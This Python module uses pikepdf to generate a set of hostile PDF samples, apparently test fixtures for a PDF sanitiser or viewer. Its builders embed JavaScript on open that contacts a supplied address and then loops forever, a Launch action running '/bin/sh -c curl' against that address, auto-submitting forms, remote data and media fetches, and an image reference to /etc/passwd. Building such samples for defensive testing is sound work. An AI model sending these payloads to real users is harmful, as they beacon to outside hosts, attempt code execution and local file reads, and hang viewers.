"""PDF files that want to do something: run a script, start a program, send a form, fetch from the network."""

import io
from collections.abc import Callable

import pikepdf
from pikepdf import Array, Dictionary, Name, String

Build = Callable[[pikepdf.Pdf, str], None]
"""Puts one wish into a file; the text is an address that somebody listens at."""


def _script(code: str) -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String(code))


def _calls(address: str) -> str:
    return (
        f"app.launchURL('{address}/launch', true); this.submitForm('{address}/script'); this.getURL('{address}/get');"
        f"SOAP.request({{cURL: '{address}/soap'}}); Net.HTTP.request({{cURL: '{address}/net'}}); while (true) {{}}"
    )


def script_on_opening(pdf: pikepdf.Pdf, address: str) -> None:
    pdf.Root.OpenAction = _script(_calls(address))


def named_script(pdf: pikepdf.Pdf, address: str) -> None:
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), _script(_calls(address))])))


def actions_of_document_and_page(pdf: pikepdf.Pdf, address: str) -> None:
    pdf.Root.AA = Dictionary(WC=_script(_calls(address)), WP=_script(_calls(address)), DP=_script(_calls(address)))
    pdf.pages[0].AA = Dictionary(O=_script(_calls(address)), C=_submit(address))


def program_on_opening(pdf: pikepdf.Pdf, address: str) -> None:
    start = Dictionary(F=String("/bin/sh"), P=String(f"-c 'curl {address}/sh'"))
    pdf.Root.OpenAction = Dictionary(S=Name.Launch, F=String("/bin/sh"), Unix=start, Win=start, NewWindow=True)


def _submit(address: str) -> Dictionary:
    return Dictionary(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String(f"{address}/submit")), Flags=4)


def form_sent_on_opening(pdf: pikepdf.Pdf, address: str) -> None:
    _field(pdf, address)
    pdf.Root.OpenAction = _submit(address)


def _field(pdf: pikepdf.Pdf, address: str) -> None:
    field = pdf.make_indirect(
        Dictionary(Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T=String("a"), V=String("1"))
    )
    field.Rect = Array([50, 50, 200, 80])
    field.AA = Dictionary(K=_script(_calls(address)), F=_script(_calls(address)), C=_script(_calls(address)))
    field.AA.PV, field.AA.PO = _script(_calls(address)), _submit(address)
    pdf.pages[0].Annots = Array([field])
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]), CO=Array([field]), NeedAppearances=True)


def calculating_field(pdf: pikepdf.Pdf, address: str) -> None:
    _field(pdf, address)


def address_on_opening(pdf: pikepdf.Pdf, address: str) -> None:
    pdf.Root.OpenAction = Dictionary(S=Name.URI, URI=String(f"{address}/uri"))


def data_fetched_on_opening(pdf: pikepdf.Pdf, address: str) -> None:
    elsewhere = Dictionary(Type=Name.Filespec, FS=Name.URL, F=String(f"{address}/import"))
    pdf.Root.OpenAction = Dictionary(S=Name.ImportData, F=elsewhere)
    pdf.pages[0].AA = Dictionary(O=Dictionary(S=Name.GoToR, F=elsewhere, D=Array([0, Name.Fit])))


def picture_from_elsewhere(pdf: pikepdf.Pdf, address: str) -> None:
    for number, where in enumerate((f"{address}/picture", "/etc/passwd")):
        kind = {"FS": Name.URL} if number == 0 else {}
        picture = pdf.make_stream(b"", Type=Name.XObject, Subtype=Name.Image, Width=1, Height=1)
        picture.ColorSpace, picture.BitsPerComponent = Name.DeviceRGB, 8
        picture.F = Dictionary(Type=Name.Filespec, F=String(where), **kind)
        pdf.pages[0].Resources = Dictionary(XObject=Dictionary(P=picture))
        pdf.pages[0].Contents = pdf.make_stream(b"q 100 0 0 100 0 0 cm /P Do Q")


def film_that_plays(pdf: pikepdf.Pdf, address: str) -> None:
    clip = Dictionary(S=Name.MCD, CT=String("video/mp4"), D=Dictionary(FS=Name.URL, F=String(f"{address}/film")))
    plays = Dictionary(S=Name.Rendition, OP=4, R=Dictionary(S=Name.MR, C=clip))
    screen = Dictionary(Type=Name.Annot, Subtype=Name.Screen, Rect=Array([0, 0, 300, 300]), A=plays)
    screen.AA = Dictionary(PO=plays, PV=plays)
    pdf.pages[0].Annots = Array([pdf.make_indirect(screen)])


def form_with_template(pdf: pikepdf.Pdf, address: str) -> None:
    template = (
        '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/">'
        f'<subform><event activity="initialize"><submit target="{address}/xfa"/></event></subform></template></xdp:xdp>'
    )
    _field(pdf, address)
    pdf.Root.AcroForm.XFA = pdf.make_stream(template.encode())


HOSTILE: tuple[Build, ...] = (
    *(script_on_opening, named_script, actions_of_document_and_page, program_on_opening, form_sent_on_opening),
    *(calculating_field, address_on_opening, data_fetched_on_opening, picture_from_elsewhere, film_that_plays),
    form_with_template,
)


def hostile(build: Build, address: str) -> bytes:
    """A page that wants one thing."""
    out = io.BytesIO()
    with pikepdf.new() as pdf:
        pdf.add_blank_page(page_size=(595, 842))
        build(pdf, address)
        pdf.save(out)
    return out.getvalue()
